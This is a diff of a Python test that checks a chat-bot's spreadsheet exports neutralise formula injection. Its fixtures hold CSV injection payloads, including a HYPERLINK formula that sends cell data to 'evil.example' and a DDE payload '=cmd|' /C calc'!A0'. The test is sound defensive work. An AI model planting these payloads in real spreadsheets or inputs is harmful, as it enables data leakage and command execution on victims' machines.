@@ -24,20 +24,15 @@ from handlers.sheets import FORMULA_TRIGGERS
 from tests.conftest import make_config
 from tests.console_support import add_account, log_in, say, session_csrf
 
-HOSTILE_NAME = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")"
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
 ROSTER = (
     "姓名,手机号,企业微信账号,界别,专委会,学习小组,角色\n"
     f'"{HOSTILE_NAME.replace(chr(34), chr(34) * 2)}",13800138001,zhangwei,'
     "+SUM(1;2),-2+3,@SUM(A1),委员\n"
-    "李娜,13800138002,lina,\"=1+1\",经济委,第1学习小组,委员\n"
+    '李娜,13800138002,lina,"=1+1",经济委,第1学习小组,委员\n'
     "孙丽,13800138011,sunli,,,,秘书\n"
 )
-REPORT = (
-    "社情民意：=cmd|' /C calc'!A0\n"
-    "基本情况：=1+1\n"
-    "存在问题：-1+1\n"
-    "建议：@SUM(1,2)"
-)
+REPORT = "社情民意：=cmd|' /C calc'!A0\n基本情况：=1+1\n存在问题：-1+1\n建议：@SUM(1,2)"
 
 
 def cells(data: bytes) -> list[Any]:
@@ -75,7 +70,7 @@ async def test_every_export_writes_member_text_as_text(
     async with TestClient(TestServer(app)) as client:
         runtime = client.app[RUNTIME]
         await say(runtime, "sunli", "开启打卡 @SUM(A1) 每周 周五20:00提醒 周日21:00汇总")
-        await say(runtime, "zhangwei", "打卡 读《=1+1》30分钟 心得：=HYPERLINK(\"x\")")
+        await say(runtime, "zhangwei", '打卡 读《=1+1》30分钟 心得：=HYPERLINK("x")')
         await say(runtime, "zhangwei", REPORT)
         await say(runtime, "zhangwei", "确认")
         await say(runtime, "lina", REPORT.replace("=cmd", "+cmd"))
@@ -108,5 +103,5 @@ async def test_every_export_writes_member_text_as_text(
     assert_inert(files["checkins"], HOSTILE_NAME)
     assert_inert(files["reports"], HOSTILE_NAME, "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0")
     assert_inert(files["stats"], "=cmd|' /C calc'!A0")
-    for key, data in downloads.items():
+    for data in downloads.values():
         assert_inert(data, HOSTILE_NAME)
